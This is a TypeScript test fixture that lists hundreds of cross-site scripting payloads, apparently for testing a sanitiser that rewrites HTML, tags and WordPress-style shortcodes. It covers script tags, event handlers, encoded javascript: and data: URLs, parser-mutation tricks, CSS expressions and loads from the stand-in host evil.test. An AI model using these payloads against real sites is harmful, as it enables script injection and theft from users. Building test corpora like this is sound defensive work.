import { inTags, shortcodes } from '../../src/content/rewriting-texts.ts';

/**
 * Texts that run a script, or load something that could, where a page takes them for HTML: the ways known from lists of
 * such attacks, by family. All of them call `alert`.
 */

const split = (lines: string): string[] =>
  lines
    .split('\n')
    .map((line) => line.trim())
    .filter(Boolean);

const scripts = split(String.raw`
  <script>alert(1)</script>
  <SCRIPT>alert(1)</SCRIPT>
  <script >alert(1)</script >
  <script/x>alert(1)</script>
  <script	>alert(1)</script>
  <scr<script>ipt>alert(1)</scr</script>ipt>
  <scr<!-- -->ipt>alert(1)</script>
  <<script>alert(1)//<</script>
  <script>alert(1)
  <script src=data:text/javascript,alert(1)></script>
  <script src=//evil.test/x.js></script>
  <script/src=//evil.test/x.js>
  <script type=module>alert(1)</script>
  <script type=module src=//evil.test/m.js></script>
  <script nomodule>alert(1)</script>
  <script type=importmap>{"imports":{"a":"//evil.test/a.js"}}</script>
  <script language=vbscript>alert(1)</script>
  <script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>
  <script>\u0061lert(1)</script>
  <script><!--
  --><script>alert(1)</script>
  ]]><script>alert(1)</script>
  "><script>alert(1)</script>
  '><script>alert(1)</script>
  \"><script>alert(1)</script>
  </title><script>alert(1)</script>
  </textarea><script>alert(1)</script>
  </style><script>alert(1)</script>
  </noscript><script>alert(1)</script>
  </template><script>alert(1)</script>
  </xmp><script>alert(1)</script>
  </iframe><script>alert(1)</script>
  </plaintext><script>alert(1)</script>
  </select></table></svg></math><script>alert(1)</script>
  <script>/*<script>*/alert(1)</script>
  <script src="data:,alert(1)//"></script>
  <script src="blob:https://evil.test/x"></script>
  <scripT x=">" src=//evil.test/x.js></scripT>
  <script a=">'>" src=//evil.test/x.js></script>
  <script ${'`'} src=//evil.test/x.js></script>
  <0script>alert(1)</0script><script>alert(1)</script>
  <?xml version="1.0"?><script>alert(1)</script>
  <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
  %3Cscript%3Ealert(1)%3C/script%3E
  \x3cscript\x3ealert(1)\x3c/script\x3e
  \u003cscript\u003ealert(1)\u003c/script\u003e
  +ADw-script+AD4-alert(1)+ADw-/script+AD4-
  &lt;script&gt;alert(1)&lt;/script&gt;
  &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
  &#60;script&#62;alert(1)&#60;/script&#62;
  &#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
  &#0000060script&#0000062alert(1)&#60/script&#62
  &LT;script&GT;alert(1)&LT;/script&GT;
  ＜script＞alert(1)＜/script＞
  ‹script›alert(1)‹/script›
`);

/** Elements that load at once, focus at once or otherwise fire an event without anybody's help. */
const events = split(`
  <img src=x onerror=alert(1)>
  <img src=x onerror="alert(1)">
  <img src=x onerror='alert(1)'>
  <img src=x onerror=${'`alert(1)`'}>
  <img/src=x/onerror=alert(1)>
  <img//src=x//onerror=alert(1)//>
  <IMG SRC=x ONERROR=alert(1)>
  <img src=x OnErRoR=alert(1)>
  <img src=x onerror =alert(1)>
  <img src=x onerror= alert(1)>
  <img src=x onerror&#61;alert(1)>
  <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
  <img src=x onerror=&#x61;lert(1)>
  <img src=x onerror=alert&lpar;1&rpar;>
  <img src=x onerror=alert${'`1`'}>
  <img src=x onerror=window['al'+'ert'](1)>
  <img src=x onerror=top[/al/.source+/ert/.source](1)>
  <img src=x onerror="&quot;&gt;alert(1)">
  <img src="x" title="" onerror=alert(1)>
  <img src="x" alt="a"onerror="alert(1)">
  <img src='x' alt='a'onerror='alert(1)'>
  <img src="x" alt=a"onerror=alert(1)>
  <img src="x" alt="<b" onerror="alert(1)">
  <img src="x" alt=">" onerror=alert(1)>
  <img src="x" alt='>' onerror=alert(1)>
  <img src="x" alt="&quot; onerror=alert(1) x=&quot;">
  <img src="x" alt='&#39; onerror=alert(1) x=&#39;'>
  <img src="x" "onerror=alert(1)">
  <img src="x" 'x' onerror=alert(1)>
  <img src="x" =onerror=alert(1)>
  <img src="x" = onerror=alert(1)>
  <img src="x" <b onerror=alert(1)>
  <img src="x" < onerror=alert(1)>
  <img src=x:x onerror=alert(1) //
  <img src=x onerror=alert(1)
  <img """><script>alert(1)</script>">
  <img src=x:alert(1) onerror=eval(src)>
  <img srcset=x onerror=alert(1)>
  <img src onerror=alert(1)>
  <image src=x onerror=alert(1)>
  <image href=x onerror=alert(1)>
  <img style="x" src=x onerror=alert(1) class="wp-image-1">
  <img src=x data-x="a" data-onerror=x onerror=alert(1)>
  <img src=x xml:lang="a" xml:onerror=x onerror=alert(1)>
  <img src=x loading=lazy onload=alert(1) onerror=alert(1)>
  <a onmouseover=alert(1) href=x>a</a>
  <a onfocus=alert(1) autofocus tabindex=1>a</a>
  <a id=x tabindex=1 onfocusin=alert(1)>a</a>
  <a onclick=alert(1)>a</a>
  <b onpointerenter=alert(1)>a</b>
  <p onbeforecopy=alert(1) contenteditable>a</p>
  <p oncut=alert(1) onpaste=alert(1)>a</p>
  <xss onpointerrawupdate=alert(1) style=display:block>a</xss>
  <xss autofocus tabindex=1 onfocus=alert(1)>a</xss>
  <body onload=alert(1)>
  <body onpageshow=alert(1)>
  <body onhashchange=alert(1)><a href=#x>a</a>
  <body onscroll=alert(1)><input autofocus>
  <html onmouseover=alert(1)>
  <frameset onload=alert(1)><frame src=//evil.test/>
  <input autofocus onfocus=alert(1)>
  <input onblur=alert(1) autofocus><input autofocus>
  <input type=image src=x onerror=alert(1)>
  <select autofocus onfocus=alert(1)><option>a</select>
  <textarea autofocus onfocus=alert(1)>a</textarea>
  <button autofocus onfocus=alert(1)>a</button>
  <keygen autofocus onfocus=alert(1)>
  <details open ontoggle=alert(1)><summary>a</summary>b</details>
  <details ontoggle=alert(1) open>b
  <dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>
  <video onerror=alert(1)><source></video>
  <video><source onerror=alert(1)>
  <video src=x onerror=alert(1)></video>
  <video src onloadstart=alert(1)></video>
  <video poster=javascript:alert(1)//></video>
  <video autoplay oncanplay=alert(1)><source src="data:video/mp4;base64,AAAA"></video>
  <audio src onerror=alert(1)>
  <audio controls onvolumechange=alert(1) muted src=x></audio>
  <track onerror=alert(1)><video><track default src=x onerror=alert(1)></video>
  <object data=x onerror=alert(1)>
  <embed src=x onload=alert(1)>
  <iframe onload=alert(1)></iframe>
  <link rel=stylesheet href=x onerror=alert(1)>
  <style onload=alert(1)></style>
  <marquee onstart=alert(1)>a</marquee>
  <marquee loop=1 width=0 onfinish=alert(1)>a</marquee>
  <meter onmouseover=alert(1)>0</meter>
  <isindex type=image src=x onerror=alert(1)>
  <table background=x onmouseover=alert(1)><tr><td onmouseenter=alert(1)>a</td></tr></table>
  <ul style="animation-name:x" onanimationstart=alert(1)><li>a</ul>
  <p style="transition:outline 1s" ontransitionend=alert(1) id=t>a</p>
  <div style="animation:x" onwebkitanimationend=alert(1)>a</div>
  <span oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">a</span>
  <button popovertarget=x>a</button><b popover id=x onbeforetoggle=alert(1)>b</b>
  <a href=x ping=//evil.test/ping onauxclick=alert(1)>a</a>
`);

/** `javascript:` and its like, in every spelling that some browser has taken for it. */
const addresses = split(String.raw`
  javascript:alert(1)
  JaVaScRiPt:alert(1)
  javascript://%0aalert(1)
  javascript://a.example/%0aalert(1)//
  javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
  java&#115;cript:alert(1)
  &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
  &#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)
  &#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)
  javascript&colon;alert(1)
  javascript&#58;alert(1)
  javascript&#x3a;alert(1)
  javascript&#0058alert(1)
  javascript&amp;colon;alert(1)
  java&Tab;script:alert(1)
  java&NewLine;script:alert(1)
  java&#9;script:alert(1)
  java&#x0A;script:alert(1)
  java&#x0D;script:alert(1)
  java&#0;script:alert(1)
  java&ZeroWidthSpace;script:alert(1)
  java&shy;script:alert(1)
  java\0script:alert(1)
  java%0ascript:alert(1)
  %6aavascript:alert(1)
  &#1;javascript:alert(1)
  &#x1f;javascript:alert(1)
  &#14; javascript:alert(1)
  &nbsp;javascript:alert(1)
  &#8232;javascript:alert(1)
  &#xfeff;javascript:alert(1)
  javascript&#32;:alert(1)
  javascript&#9;:alert(1)
  x:javascript:alert(1)
  http:javascript:alert(1)
  feed:javascript:alert(1)
  feed:feed:javascript:alert(1)
  feed:data:text/html,<script>alert(1)</script>
  view-source:javascript:alert(1)
  jar:javascript:alert(1)
  javajavascript:script:alert(1)
  javascript:javascript:alert(1)
  //javascript:alert(1)
  ./javascript:alert(1)
  javascript:alert${'`1`'}
  javascript:&quot;<svg onload=alert(1)>&quot;
  javascript:'<script>alert(1)</script>'
  data:text/html,<script>alert(1)</script>
  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
  data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)
  data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
  data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>
  da&Tab;ta:text/html,<script>alert(1)</script>
  data&colon;text/html,&lt;script&gt;alert(1)&lt;/script&gt;
  vbscript:alert(1)
  VbScRiPt:alert(1)
  vb&#x73;cript:alert(1)
  livescript:alert(1)
  mocha:alert(1)
  blob:null/alert(1)
  filesystem:http://evil.test/x
  about:srcdoc
  mhtml:http://evil.test/x.html!x
  ms-its:x
`);

const holders: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}'>a</a>`,
  (address) => `<a href=${address}>a</a>`,
];

/** The remaining attributes that take an address, with the plain and an encoded spelling. */
const otherHolders = [
  'javascript:alert(1)',
  'java&Tab;script&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
].flatMap((address) => [
  `<img src="${address}">`,
  `<img src=x lowsrc="${address}" dynsrc="${address}">`,
  `<img srcset="${address} 1x, x 2x">`,
  `<img src=x longdesc="${address}" usemap="${address}">`,
  `<input type=image src="${address}">`,
  `<form action="${address}"><button>a</button></form>`,
  `<form id=f></form><button form=f formaction="${address}">a</button>`,
  `<isindex action="${address}" type=image>`,
  `<button type=submit formaction="${address}">a</button>`,
  `<iframe src="${address}"></iframe>`,
  `<frameset><frame src="${address}"></frameset>`,
  `<object data="${address}"></object>`,
  `<object><param name=src value="${address}"></object>`,
  `<embed src="${address}">`,
  `<applet code="${address}" archive="${address}"></applet>`,
  `<base href="${address}//"><a href="/x">a</a>`,
  `<link rel=stylesheet href="${address}">`,
  `<link rel=import href="${address}">`,
  `<link rel=manifest href="${address}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<body background="${address}">`,
  `<table background="${address}"><td background="${address}">a</table>`,
  `<blockquote cite="${address}">a</blockquote><q cite="${address}">a</q>`,
  `<video src="${address}" poster="${address}"></video>`,
  `<audio src="${address}"></audio>`,
  `<video><source src="${address}"><track default src="${address}"></video>`,
  `<map name=m><area shape=default href="${address}"></map><img usemap=#m src=x>`,
  `<svg><a xlink:href="${address}"><text y=20>a</text></a></svg>`,
  `<svg><a href="${address}"><rect width=99 height=99 /></a></svg>`,
  `<svg><use href="${address}#x"></use></svg>`,
  `<svg><image href="${address}"></image></svg>`,
  `<svg><script href="${address}"></script></svg>`,
  `<svg><a><animate attributeName=href values="${address}"></animate><text y=20>a</text></a></svg>`,
  `<svg><a><set attributeName=xlink:href to="${address}"></set><text y=20>a</text></a></svg>`,
  `<math href="${address}"><mi>a</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="${address}">a</maction></math>`,
  `<xml src="${address}"></xml>`,
  `<bgsound src="${address}"><layer src="${address}"></layer>`,
  `<del cite="${address}">a</del><ins cite="${address}">a</ins>`,
]);

/** What another parser, or the same one at the second time, reads differently. */
const mutations = split(`
  <svg><style><img src=x onerror=alert(1)></style></svg>
  <svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>
  <svg><p><style><!--</style><img title="--><img src=x onerror=alert(1)>"></svg>
  <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
  <svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>
  <svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
  <svg><foreignObject><p><svg><style><img src=x onerror=alert(1)></style></svg></p></foreignObject></svg>
  <svg onload=alert(1)>
  <svg/onload=alert(1)//
  <svg><script>alert(1)</script></svg>
  <svg><script>alert&#40;1&#41;</script></svg>
  <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
  <svg><animatetransform onbegin=alert(1)></svg>
  <svg><discard onbegin=alert(1)></svg>
  <svg id=x tabindex=1 onfocus=alert(1)></svg>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
  <svg><textarea><script>alert(1)</script></textarea></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
  <math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
  <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
  <math><mi><style><img src=x onerror=alert(1)></style></mi></math>
  <math><style><a title="</style><img src=x onerror=alert(1)>"></style></math>
  <math><xlink:x></p><style><img src=x onerror=alert(1)></style></math>
  <noscript><p title="</noscript><img src=x onerror=alert(1)>">
  <noscript><style></noscript><img src=x onerror=alert(1)></style>
  <noscript>&lt;/noscript>&lt;img src=x onerror=alert(1)></noscript>
  <b title="</noscript><img src=x onerror=alert(1)>">a</b>
  <b title="</textarea><img src=x onerror=alert(1)>">a</b>
  <b title="--&gt;<img src=x onerror=alert(1)>">a</b>
  <title><b title="</title><img src=x onerror=alert(1)>"></title>
  <textarea><b title="</textarea><img src=x onerror=alert(1)>"></textarea>
  <textarea></textarea/ ><img src=x onerror=alert(1)>
  <textarea>&lt;/textarea&gt;<img src=x onerror=alert(1)></textarea>
  <textarea><!-- </textarea><img src=x onerror=alert(1)> --></textarea>
  <!-- <textarea> --><b title="</textarea><img src=x onerror=alert(1)>">a</b>
  <style><b title="</style><img src=x onerror=alert(1)>"></style>
  <style><!--</style><img src=x onerror=alert(1)>--></style>
  <xmp><b title="</xmp><img src=x onerror=alert(1)>"></xmp>
  <iframe><b title="</iframe><img src=x onerror=alert(1)>"></iframe>
  <noembed><b title="</noembed><img src=x onerror=alert(1)>"></noembed>
  <noframes><b title="</noframes><img src=x onerror=alert(1)>"></noframes>
  <plaintext><img src=x onerror=alert(1)>
  <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
  <template><img src=x onerror=alert(1)></template>
  <template shadowrootmode=open><img src=x onerror=alert(1)></template>
  <div><template shadowrootmode=closed><script>alert(1)</script></template></div>
  <select><template><script>alert(1)</script></template></select>
  <select><style></select><img src=x onerror=alert(1)></style></select>
  <select><option><script>alert(1)</script></option><img src=x onerror=alert(1)></select>
  <option><style></option></select><b><img src=x onerror=alert(1)></style></option>
  <table><style><a title="</style><img src=x onerror=alert(1)>"></table>
  <table><td><script>alert(1)</script></td><img src=x onerror=alert(1)></table>
  <table><caption><svg><p><table><style><img src=x onerror=alert(1)></style></caption>
  <table><colgroup><img src=x onerror=alert(1)></colgroup></table>
  <table><tr><a href=javascript:alert(1)>a<td>b</table>
  <p><table><p></table><style><b title="</style><img src=x onerror=alert(1)>">
  <a><table><a href=javascript:alert(1)>b</a></table></a>
  <form><input name=innerHTML><input name=attributes><img src=x onerror=alert(1)></form>
  <form id=x><form id=y><button formaction=javascript:alert(1)>a
  <b><p><i></b><img src=x onerror=alert(1)></i></p>
  <!--><img src=x onerror=alert(1)>-->
  <!---><img src=x onerror=alert(1)>-->
  <!----!><img src=x onerror=alert(1)>-->
  <!-- a --!><img src=x onerror=alert(1)> -->
  <!-- --> <img src=x onerror=alert(1)> <!-- -->
  <!-- a -- > <img src=x onerror=alert(1)> -->
  <!--<!--> <img src=x onerror=alert(1)> -->
  <!-- <!-- --> <img src=x onerror=alert(1)> -->
  <!- -><img src=x onerror=alert(1)>
  <!x><img src=x onerror=alert(1)>
  <!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
  <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
  <![if IE]><script>alert(1)</script><![endif]>
  <![CDATA[<script>alert(1)</script>]]>
  <![CDATA[ ><img src=x onerror=alert(1)> ]]>
  <? foo="><script>alert(1)</script>">
  <?xml-stylesheet href="javascript:alert(1)"?>
  <%<!--'%><script>alert(1);</script -->
  </ foo="><script>alert(1)</script>">
  </a onmousemove="alert(1)">
  </p/onclick=alert(1)><img src=x onerror=alert(1)>
  <a/href/onmouseover=alert(1)//x>a</a>
  <a href="x" title='"><img src=x onerror=alert(1)>'>a</a>
  <a href='x" onmouseover="alert(1)'>a</a>
  <a href="x' onmouseover='alert(1)">a</a>
  <a title="a" title="b" href=x onclick=alert(1)>a</a>
  <a href="x"title="y"onclick="alert(1)">a</a>
  <a href="x"" onclick=alert(1)>a</a>
  <a href="x>" onclick=alert(1)>a</a>
  <a href="<b>" onclick=alert(1)>a</a>
  <a href="<!--" title="--><img src=x onerror=alert(1)>">a</a>
  <a title="<script>" href="</script><img src=x onerror=alert(1)>">a</a>
  <p id="<img src=x onerror=alert(1)>" class='"><img src=x onerror=alert(1)>'>a</p>
  <p title=a&quot;/onclick=alert(1)>a</p>
  <p title=${'`'}a${'`'} onclick=alert(1)>a</p>
  <p title=${'`'}><img src=x onerror=alert(1)>${'`'}>a</p>
  <p class="a${'`'}" onclick="${'`'}alert(1)">a</p>
  <b/onclick=alert(1)/>a</b>
  <b
onclick=alert(1)>a</b>
  <noscript><img src="x" alt="</noscript><script>alert(1)</script>"></noscript>
  <object><noembed><img src=x onerror=alert(1)></noembed></object>
  <ruby><rt><svg><script>alert(1)</script></svg></rt></ruby>
  <x><svg><b><img src=x onerror=alert(1)></b></svg></x>
  <a-b is=script onclick=alert(1)>alert(1)</a-b>
  <p is=x-y onclick=alert(1)>a</p>
`);

const styles = split(String.raw`
  width:expression(alert(1))
  width:ex/**/pression(alert(1))
  width:e\78pression(alert(1))
  wid\74h:expression(alert(1))
  xss:expr/*XSS*/ession(alert(1))
  background:url(javascript:alert(1))
  background:url("javascript:alert(1)")
  background:url(&quot;javascript:alert(1)&quot;)
  background:u\72l(javascript:alert(1))
  background:url(java&#10;script:alert(1))
  background:url(data:text/html,<script>alert(1)</script>)
  background-image:image-set("javascript:alert(1)" 1x)
  background-image:url(//evil.test/a.svg#x)
  background:-webkit-image-set(url(javascript:alert(1)) 1x)
  list-style-image:url(javascript:alert(1))
  border-image:url(javascript:alert(1))
  cursor:url(javascript:alert(1)),auto
  filter:url(javascript:alert(1))
  filter:progid:DXImageTransform.Microsoft.Alpha(src=javascript:alert(1))
  behavior:url(//evil.test/x.htc)
  behaviour:url(#default#time2)
  -moz-binding:url(//evil.test/x.xml#xss)
  -o-link:'javascript:alert(1)';-o-link-source:current
  content:url(javascript:alert(1))
  @import 'javascript:alert(1)'
  color:red;}*{background:url(javascript:alert(1))
  color:red</style><img src=x onerror=alert(1)>
  color:red"onmouseover=alert(1) x="
  font-family:'a;position:fixed;top:0
  --x:url(javascript:alert(1));background:var(--x)
  position:fixed;inset:0;z-index:9999
  clip-path:url(javascript:alert(1))
  width:calc(expression(alert(1)))
  width:calc((expression(alert(1))))
  background:linear-gradient(red,url(javascript:alert(1)))
  mask:url(javascript:alert(1))
`).flatMap((style) => [
  `<p style="${style.replaceAll('"', "'")}">a</p>`,
  `<p style='${style.replaceAll("'", '"')}'>a</p>`,
]);

const styleSheets = split(`
  <style>@import '//evil.test/x.css';</style>
  <style>@import 'javascript:alert(1)';</style>
  <style>*{background:url(//evil.test/leak)}</style>
  <style>body{-moz-binding:url(//evil.test/x)}</style>
  <link rel=stylesheet href=//evil.test/x.css>
  <link rel=preload as=script href=//evil.test/x.js>
  <link rel=modulepreload href=//evil.test/m.js>
  <link rel=prefetch href=//evil.test/x>
  <link rel=icon href=//evil.test/x.ico>
  <meta http-equiv=refresh content=0;url=//evil.test/>
  <meta http-equiv="Content-Security-Policy" content="script-src *">
  <meta http-equiv=set-cookie content=a=b>
  <meta name=referrer content=unsafe-url>
  <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
  <base href=//evil.test/><script src=x.js></script>
  <iframe src=//evil.test/></iframe>
  <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
  <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
  <iframe src=x srcdoc='<img src=x onerror=parent.alert(1)>' sandbox="allow-scripts allow-same-origin"></iframe>
  <iframe name=alert(1) src=//evil.test/></iframe>
  <fencedframe src=//evil.test/></fencedframe><portal src=//evil.test/></portal>
  <object data=//evil.test/x.swf></object>
  <object type=text/html data=//evil.test/></object>
  <object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
  <embed src=//evil.test/x.svg type=image/svg+xml allowscriptaccess=always>
  <applet code=x codebase=//evil.test/></applet>
  <form action=//evil.test/ method=post><input name=a value=b></form>
  <form action=//evil.test/><button autofocus>a</button></form>
  <img src=x attributionsrc=//evil.test/a>
  <a href=/ ping=//evil.test/p>a</a>
  <input type=submit formaction=//evil.test/ value=a>
  <button form=x formaction=//evil.test/>a</button>
  <dialog open><form method=dialog action=//evil.test/><button>a</button></form></dialog>
  <svg><image href=//evil.test/a.svg /></svg>
  <svg><use href=//evil.test/a.svg#x /></svg>
  <svg><feImage href=//evil.test/a.svg /></svg>
  <picture><source srcset=//evil.test/a><img src=x onerror=alert(1)></picture>
  <speculationrules>{"prefetch":[{"urls":["//evil.test/"]}]}</speculationrules>
`);

/** What only texts of this kind of server make dangerous: shortcodes, blocks, bare addresses, smileys, quotes. */
const published = split(String.raw`
  [caption id='x" onmouseover="alert(1)' width="9" caption="<img src=x onerror=alert(1)>"]<img src="x">[/caption]
  [caption width="9"]<img src="x" alt="] onerror=alert(1)"> [/caption]
  [caption width="9" align="a' onclick='alert(1)" class="b&quot; onclick=&quot;alert(1)"]<img src="x" /> words[/caption]
  <a title="[caption width=9 caption='x&quot; onclick=alert(1)']y[/caption]">a</a>
  <img alt="[embed]http://x.example/&quot; onerror=alert(1)[/embed]" src="x">
  [embed]javascript:alert(1)[/embed]
  [embed]http://a.example/"onmouseover="alert(1)[/embed]
  [embed src='javascript:alert(1)']
  [audio src="javascript:alert(1)"][/audio]
  [video src="x&quot; onerror=&quot;alert(1)"][/video]
  [video src='http://a.example/"onerror="alert(1)'][/video]
  [audio src=http://a.example/'onerror='alert(1)]
  [gallery link="<script>alert(1)</script>" ids="1"]
  [[caption]<script>alert(1)</script>[/caption]]
  [video src="<b title='"]<p onclick=alert(1)>[/video]
  <!-- wp:html --><script>alert(1)</script><!-- /wp:html -->
  <!-- wp:group {"tagName":"script"} --><div class="wp-block-group">alert(1)</div><!-- /wp:group -->
  <!-- wp:group {"layout":{"type":"flex","orientation":"x\" onclick=\"alert(1)"}} --><div class="a">b</div><!-- /wp:group -->
  <!-- wp:image {"align":"\"><script>alert(1)</script>"} --><figure class="wp-block-image alignleft" onclick="alert(1)"><img src="x"></figure><!-- /wp:image -->
  <!-- wp:a {"x":"--><img src=x onerror=alert(1)>"} /-->
  <!-- wp:paragraph --><p>a</p><!-- /wp:paragraph --><img src=x onerror=alert(1)>
  <!--more <img src=x onerror=alert(1)>-->after
  a<!--nextpage--><script>alert(1)</script>
  http://a.example/"onmouseover="alert(1)
  http://a.example/'onmouseover='alert(1)
  http://a.example/<img src=x onerror=alert(1)>
  see www.a.example/"><script>alert(1)</script>
  javascript://a.example/%0aalert(1)
  ftp.a.example/"><img src=x onerror=alert(1)>
  "<img/src=x/onerror=alert(1)>"@a.example
  a"onclick="alert(1)@a.example
  :)<img src=x onerror=alert(1)>:)
  "<b title=":-)" onclick=":-)alert(1)">
  <a target=_blank rel="x&quot; onclick=&quot;alert(1)" href=x>a</a>
  <a target='" onclick="alert(1)' rel='"onclick="alert(1)' href='x'>a</a>
  <a href=x rel=nofollow" onclick="alert(1) target=_blank>a</a>
  <a href="x"rel='a'onclick='alert(1)'target="_blank">a</a>
  <pre><script>alert(1)</script></pre><code><img src=x onerror=alert(1)></code>
  <p title="a--b 'c' ... (tm)" onclick="alert(1)">a</p>
  '"--><svg/onload=alert(1)>
  \'-alert(1)//
  ';alert(1);//
  </b></b></b><img src=x onerror=alert(1)></i>
  <3 <img src=x onerror=alert(1)
  {{7*7}}{{constructor.constructor('alert(1)')()}}
  ${'$'}{alert(1)} #{alert(1)} <%= alert(1) %>
  {{$on.constructor('alert(1)')()}}<x v-html="'<img src=x onerror=alert(1)>'"></x>
  <div data-bind="html:'<img src=x onerror=alert(1)>'" ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>
  <p x-data x-init="alert(1)" @click="alert(1)" :onclick="alert(1)">a</p>
  <div hx-on:load="alert(1)" hx-get="javascript:alert(1)">a</div>
`);

/** What a rewriting of tags and shortcodes looks for, where it must not find it: inside of values, and enclosed. */
const rewritten = [...inTags, ...shortcodes].flatMap((trigger) => {
  const value = `${trigger.replaceAll('"', "'")} rel=x onfocus=alert(1) autofocus tabindex=1 target=y src="z `;
  const [double, single] = [value.replaceAll('"', "'"), value.replaceAll("'", '"')];
  return [
    `<a href="http://x.example/" target=_blank title="${double}">a</a>`,
    `<a href='http://x.example/' rel='${single}' title='${single}' target='${single}'>a</a>`,
    `<img src="x" width="1" height="1" alt="${double} onerror=alert(1) y">`,
    `[embed]http://x.example/<img src="x ${double} onerror=alert(1) y" />[/embed]`,
    `[caption width=9 id=a]<a href="x" title="${double}"><img src='x' alt='${single} onerror=alert(1) '></a> ${trigger}[/caption]`,
    `<!-- wp:group --><div title='${single}' class="wp-block-group ${double}">${trigger}</div><!-- /wp:group -->`,
  ];
});

/** Characters that some layer drops, between those that matter. */
const controls = [
  '\0',
  '\x01',
  '\x0b',
  '\x0c',
  '\x1f',
  '\x7f',
  '\x80',
  '\xad',
  '\u200b',
  '\u2028',
  '\ufeff',
  '\ufffe',
].flatMap((character) => [
  `<scr${character}ipt>alert(1)</script>`,
  `<${character}script>alert(1)</script>`,
  `<img${character}src=x${character}onerror=alert(1)>`,
  `<img src=x on${character}error=alert(1)>`,
  `<img src=x onerror${character}=alert(1)>`,
  `<a href="java${character}script:alert(1)">a</a>`,
  `<a href="${character}javascript:alert(1)">a</a>`,
  `<a href="javascript${character}:alert(1)">a</a>`,
]);

export const vectors: readonly string[] = [
  ...new Set([
    ...scripts,
    ...events,
    ...addresses,
    ...addresses.flatMap((address, at) => [holders[at % holders.length]?.(address) ?? '', `<img src="${address}">`]),
    ...addresses.map((address) => `<a href="${address}">a</a>`),
    ...otherHolders,
    ...mutations,
    ...styles,
    ...styleSheets,
    ...published,
    ...rewritten,
    ...controls,
  ]),
];
